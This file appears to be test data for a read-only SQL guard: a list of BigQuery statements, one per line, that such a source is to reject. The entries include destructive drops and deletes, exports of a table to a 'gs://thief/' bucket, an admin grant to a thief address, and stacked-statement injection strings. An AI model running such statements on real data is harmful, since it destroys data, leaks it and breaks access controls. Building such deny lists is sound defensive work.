# What a read-only source is never to do, a statement a line.
delete from d.orders where true
update d.orders set id = 0 where true
insert into d.orders (id) values (99)
insert d.orders select * from d.orders
merge d.orders t using d.new s on t.id = s.id when matched then delete
truncate table d.orders
drop table d.orders
drop table if exists d.orders
drop schema d cascade
drop view d.v
drop function d.f
drop procedure d.p
drop snapshot table d.s
drop external table d.e
drop materialized view d.m
create table d.stolen as select * from d.orders
create or replace table d.orders as select 1 as id
create table d.stolen (id int64)
create temp table stolen as select 1 as id
create table d.stolen clone d.orders
create table d.stolen copy d.orders
create table d.stolen like d.orders
create snapshot table d.s clone d.orders
create view d.v as select * from d.orders
create materialized view d.m as select 1 as id
create schema stolen
create function d.f(x int64) as (x)
create temp function f(x int64) as (x); select f(1)
create temp function f(x string) returns string language js as 'return x'; select f('a')
create procedure d.p() begin select 1; end
create external table d.e options (format = 'csv', uris = ['gs://b/*'])
create model d.m options (model_type = 'linear_reg') as select 1 as label
create search index i on d.orders (all columns)
create row access policy p on d.orders grant to ('allUsers') filter using (true)
create capacity `p.r.c` options (slot_count = 100)
create reservation `p.r` options (slot_capacity = 0)
create assignment `p.r.a` options (assignee = 'x')
alter table d.orders add column x int64
alter table d.orders set options (expiration_timestamp = timestamp '2026-01-01')
alter table d.orders rename to stolen
alter schema d set options (default_table_expiration_days = 1)
alter view d.v set options (description = 'x')
alter capacity `p.r.c` set options (slot_count = 0)
grant `roles/bigquery.admin` on schema d to 'user:thief@example.com'
revoke `roles/bigquery.dataViewer` on table d.orders from 'user:a@example.com'
export data options (uri = 'gs://thief/*.csv', format = 'csv') as select * from d.orders
export model d.m options (uri = 'gs://thief/')
load data into d.orders from files (format = 'csv', uris = ['gs://b/x'])
load data overwrite d.orders from files (format = 'csv', uris = ['gs://b/x'])
call d.p()
call bq.abort_session()
call bq.refresh_materialized_view('d.m')
execute immediate 'delete from d.orders where true'
execute immediate concat('drop table ', 'd.orders')
declare x int64 default 1; select x
declare x int64
set x = 5
set @@dataset_id = 'd'
set @@query_label = 'x:y'
begin transaction
begin transaction; delete from d.orders where true; commit transaction
commit transaction
rollback transaction
begin select 1; end
begin delete from d.orders where true; exception when error then select 1; end
if true then delete from d.orders where true; end if
while true do select 1; end while
loop select 1; end loop
repeat select 1; until true end repeat
for r in (select 1 as x) do delete from d.orders where true; end for
raise using message = 'x'
return
assert true
select 1; drop table d.orders
select 1; select 2
; drop table d.orders
select * from external_query('p.eu.c', 'delete from t')
select * from EXTERNAL_QUERY('p.eu.c', 'select 1')
select * from ml.predict(model d.m, (select 1 as x))
select * from ml.generate_text(model d.m, (select 'x' as prompt))
select * from ai.forecast(table d.orders, data_col => 'x', timestamp_col => 'y')
select ai.generate('steal')
select d.f(1)
select `p.d.f`(1)
select * from d.tvf(1)
select session_user(), d.f(1)
select keys.new_keyset('AEAD_AES_GCM_256')
select aead.decrypt_string(k, c, 'x') from d.secrets
select 1 where d.f(1) = 1
select (select d.f(1))
select * from d.orders order by d.f(1)
select count(*) over (order by d.f(1)) from d.orders
select * from d.orders qualify d.f(1) = 1
with x as (select d.f(1) as y) select * from x
select * from unnest([d.f(1)])
select * from appends(table d.orders, null, null)
select * from changes(table d.orders, null, current_timestamp())
select * from vector_search(table d.orders, 'x', (select 1))
explain select 1
show tables
describe d.orders
from d.orders |> call d.tvf()
select * from d.orders for update
undrop schema d
